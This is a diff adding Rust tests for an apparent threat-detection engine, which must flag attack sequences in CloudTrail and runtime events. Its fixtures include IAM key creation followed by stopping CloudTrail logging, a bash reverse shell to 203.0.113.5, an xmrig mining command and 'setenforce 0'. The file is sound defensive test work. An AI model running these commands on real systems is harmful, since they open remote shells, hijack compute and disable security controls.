@@ -1,0 +1,85 @@
+//! Several signals that are one attack.
+
+use ringwall_threat::finding::Finding;
+use ringwall_threat::sources::Form;
+use serde_json::json;
+
+use crate::found;
+use crate::stream::{call, engine, lists, read};
+
+#[test]
+fn an_attack_on_credentials_is_a_sequence() {
+    let steps = |address: &str| {
+        [
+            ("iam", "ListUsers", true),
+            ("iam", "CreateAccessKey", false),
+            ("iam", "AttachUserPolicy", false),
+            ("cloudtrail", "StopLogging", false),
+        ]
+        .iter()
+        .enumerate()
+        .map(|(n, (service, name, read_only))| {
+            let service = format!("{service}.amazonaws.com");
+            let extra = json!({"readOnly": read_only});
+            call(
+                &service,
+                name,
+                address,
+                i64::try_from(n).unwrap() * 60,
+                &extra,
+            )
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
+    };
+    let mut engine = engine(lists());
+    read(&mut engine, Form::CloudTrail, &steps("203.0.113.1"));
+    let findings = engine.findings();
+    let kind = "AttackSequence:IAM/CompromisedCredentials";
+    let sequence: Vec<&&Finding> = findings.iter().filter(|f| f.kind == kind).collect();
+    assert_eq!(sequence.len(), 1);
+    let details = sequence[0].service.detection.as_ref().unwrap();
+    assert!(details.sequence.as_ref().unwrap().signals.len() >= 3);
+    let part = findings
+        .iter()
+        .find(|f| f.kind == "Recon:IAMUser/MaliciousIPCaller")
+        .unwrap();
+    assert_eq!(
+        part.associated_attack_sequence_arn.as_ref(),
+        Some(&sequence[0].arn)
+    );
+    assert!(!found(Form::CloudTrail, &steps("198.51.100.1")).contains(kind));
+}
+
+#[test]
+fn other_attacks_are_sequences_too() {
+    let object = |name: &str, n: i64| {
+        let extra = json!({"eventCategory": "Data", "requestParameters": {"bucketName": "b"}});
+        call("s3.amazonaws.com", name, "203.0.113.1", n, &extra)
+    };
+    let text = [
+        object("ListObjects", 0),
+        object("GetObject", 1),
+        object("DeleteObject", 2),
+    ]
+    .join("\n");
+    assert!(found(Form::CloudTrail, &text).contains("AttackSequence:S3/CompromisedData"));
+    for (member, kind) in [
+        ("eksCluster", "AttackSequence:EKS/CompromisedCluster"),
+        ("ecsCluster", "AttackSequence:ECS/CompromisedCluster"),
+        ("instanceId", "AttackSequence:EC2/CompromisedInstanceGroup"),
+    ] {
+        let deed = |process: &str, command: &str, second: i64| {
+            json!({"eventType": "runtimeEvent", "kind": "exec", "time": crate::stream::time(second), (member): "x",
+                   "process": {"name": process, "path": "/tmp/x", "commandLine": command}})
+            .to_string()
+        };
+        let attack = [
+            deed("bash", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", 0),
+            deed("xmrig", "xmrig -o stratum+tcp://pool.example:1", 60),
+            deed("sh", "sh -c setenforce 0", 120),
+        ];
+        assert!(found(Form::Runtime, &attack.join("\n")).contains(kind));
+        assert!(!found(Form::Runtime, &attack[..1].join("\n")).contains(kind));
+    }
+}
